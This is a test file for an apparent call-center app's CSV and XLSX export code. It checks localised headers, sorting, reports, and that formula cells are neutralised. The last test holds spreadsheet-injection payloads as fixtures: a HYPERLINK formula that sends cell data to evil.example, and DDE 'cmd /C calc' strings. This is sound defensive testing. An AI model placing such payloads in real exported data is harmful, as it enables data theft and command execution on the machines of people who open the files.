import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallRecord, CallSearchFilter } from '../../../electron/core/contract/history';
import { queueReport } from '../../../electron/core/store/queue-reports';
import { createCallStore } from '../../../electron/core/store/call-store';
import type { Db } from '../../../electron/core/store/database';
import { exportCalls, exportReport, writeTable } from '../../../electron/core/store/export';
import { generateCallRecord, generateCalls } from '../../support/generate-calls';
import { parseCsvRecord } from '../../../electron/core/store/import';
import { tempDatabase } from './support/temp-db';
import { storeEngineSuite } from './support/store-engine';

const options = { count: 3_000, firstDay: '2026-11-02', days: 2, timeZone: 'Asia/Shanghai', seed: 5 };
const filter: CallSearchFilter = { queues: ['600', '610'], isAnswered: true };
const headers = { uniqueid: '唯一标识', startedAt: '开始时间', callerNum: '主叫号码, "caller"', queue: '队列', talkSeconds: '通话时长' };

let temp: ReturnType<typeof tempDatabase>;
let db: Db;
let expected: CallRecord[];
const engine = storeEngineSuite();
beforeAll(async () => {
  temp = tempDatabase();
  db = await engine.cacheOf(temp, (recording) => generateCalls(createCallStore(recording), options));
  expected = Array.from({ length: options.count }, (_, index) => generateCallRecord(options, index))
    .filter((call) => ['600', '610'].includes(call.queue ?? '') && call.isAnswered)
    .reverse(); // newest first, the search's default order
});
afterAll(() => temp.cleanup());

const localTime = (at: number) => new Date(at + 8 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');

describe('export', () => {
  it('writes the filtered calls to CSV with localised headers, parseable back', async () => {
    const file = join(temp.dir, 'calls.csv');
    const progress: number[] = [];
    const result = await exportCalls(db, 'Asia/Shanghai', filter, undefined, { file, format: 'csv', headers, columns: ['uniqueid', 'startedAt', 'callerNum', 'queue', 'talkSeconds'], onProgress: (rows) => progress.push(rows) });
    expect(result.rows).toBe(expected.length);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).split('\r\n').filter((line) => line !== '');
    expect(parseCsvRecord(lines[0]!)).toEqual(['唯一标识', '开始时间', '主叫号码, "caller"', '队列', '通话时长']);
    expect(lines.slice(1).map(parseCsvRecord)).toEqual(expected.map((call) => [call.uniqueid, localTime(call.startedAt), call.callerNum, call.queue, String(call.talkSeconds)]));
    expect(progress.at(-1)).toBe(expected.length);
    expect(result.bytes).toBe(Buffer.byteLength(text));
  });

  it('writes the same rows to XLSX, readable by exceljs cell by cell', async () => {
    const file = join(temp.dir, 'calls.xlsx');
    const result = await exportCalls(db, 'Asia/Shanghai', filter, { key: 'talkSeconds', order: 'desc' }, { file, format: 'xlsx', headers });
    expect(result.rows).toBe(expected.length);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(expected.length + 1);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['唯一标识', '开始时间', 'answeredAt']);
    const column = (key: string) => header.indexOf(headers[key as keyof typeof headers] ?? key) + 1;
    const byTalk = [...expected].sort((a, b) => b.talkSeconds - a.talkSeconds || expected.indexOf(a) - expected.indexOf(b));
    for (const [index, call] of byTalk.slice(0, 50).entries()) {
      const row = sheet.getRow(index + 2);
      expect(row.getCell(column('uniqueid')).value).toBe(call.uniqueid);
      expect(row.getCell(column('talkSeconds')).value).toBe(call.talkSeconds);
      expect(row.getCell(column('startedAt')).value).toBe(localTime(call.startedAt));
      expect(row.getCell(column('score')).value).toBe(call.score ?? null);
    }
  });

  it('exports a report to both formats', async () => {
    const report = queueReport(db, { from: Date.parse('2026-11-01T16:00:00Z'), to: Date.parse('2026-11-03T16:00:00Z'), dimension: 'queue', grain: 'day' });
    const csv = join(temp.dir, 'report.csv');
    await exportReport(report, { file: csv, format: 'csv', headers: { offered: '呼入量' } });
    const rows = readFileSync(csv, 'utf8').slice(1).trim().split('\r\n').map(parseCsvRecord);
    expect(rows[0]!.slice(0, 4)).toEqual(['bucket', 'key', '呼入量', 'answered']);
    expect(rows.slice(1).map((row) => [row[0], row[1], Number(row[2])])).toEqual(report.rows.map((row) => [row.bucketLabel, row.key, row.offered]));
    const xlsx = join(temp.dir, 'report.xlsx');
    const result = await exportReport(report, { file: xlsx, format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsx);
    const sheet = workbook.getWorksheet('Report')!;
    expect(result.rows).toBe(report.rows.length);
    expect(sheet.getRow(2).getCell(3).value).toBe(report.rows[0]!.offered);
    expect(sheet.getRow(2).getCell(4).value).toBe(report.rows[0]!.answered);
  });

  it('neutralises formula cells in CSV and writes text cells as text in XLSX; numbers stay numbers', async () => {
    const hostileTemp = tempDatabase();
    try {
      const hostileDb = hostileTemp.open();
      const at = Date.parse('2026-11-25T02:00:00Z');
      const hostile: CallRecord = {
        ...generateCallRecord(options, 0), uniqueid: 'formula.1', startedAt: at, endedAt: at + 60_000, answeredAt: undefined,
        callerNum: '=HYPERLINK("http://evil.example/?x="&A1,"call back")', calledNum: '+cmd|\' /C calc\'!A0', agent: '@SUM(1+1)*cmd|\' /C calc\'!A0',
        queue: '-2+3+cmd|\' /C calc\'!A0', ivrDtmf: '\t=1+1', hangupCause: '\r=1+1', disposition: 'ANSWERED', talkSeconds: 42,
      };
      createCallStore(hostileDb).upsertCalls([hostile]);
      const columns = ['uniqueid', 'callerNum', 'calledNum', 'agent', 'queue', 'ivrDtmf', 'hangupCause', 'disposition', 'talkSeconds', 'score'];
      const csv = join(hostileTemp.dir, 'hostile.csv');
      await exportCalls(hostileDb, 'Asia/Shanghai', {}, undefined, { file: csv, format: 'csv', columns });
      const [, row] = readFileSync(csv, 'utf8').slice(1).split('\r\n').map(parseCsvRecord);
      expect(row).toEqual([
        'formula.1', `'${hostile.callerNum}`, `'${hostile.calledNum}`, `'${hostile.agent}`, `'${hostile.queue}`, `'${hostile.ivrDtmf}`, `'${hostile.hangupCause}`, 'ANSWERED', '42', hostile.score === undefined ? '' : String(hostile.score),
      ]);
      // A plain negative number in a numeric column stays a number.
      const report = join(hostileTemp.dir, 'negative.csv');
      await writeTable([{ delta: -5, label: '-5' }], [{ key: 'delta', value: (r) => r.delta }, { key: 'label', value: (r) => r.label }], { file: report, format: 'csv' });
      expect(readFileSync(report, 'utf8').slice(1).split('\r\n')[1]).toBe("-5,'-5");

      const xlsx = join(hostileTemp.dir, 'hostile.xlsx');
      await exportCalls(hostileDb, 'Asia/Shanghai', {}, undefined, { file: xlsx, format: 'xlsx', columns });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(xlsx);
      const cells = workbook.worksheets[0]!.getRow(2);
      for (const [index, key] of columns.entries()) {
        const cell = cells.getCell(index + 1);
        if (key === 'talkSeconds') {
          expect(cell.type, key).toBe(ExcelJS.ValueType.Number);
          expect(cell.value).toBe(42);
        } else if (key !== 'score') {
          expect(cell.type, key).toBe(ExcelJS.ValueType.String);
          expect(cell.numFmt, key).toBe('@');
          expect(cell.formula, key).toBeUndefined();
          // XML reads a carriage return back as a line feed.
          expect(cell.value, key).toBe(String(hostile[key as keyof CallRecord]).replaceAll('\r', '\n'));
        }
      }
    } finally {
      hostileTemp.cleanup();
    }
  });
});

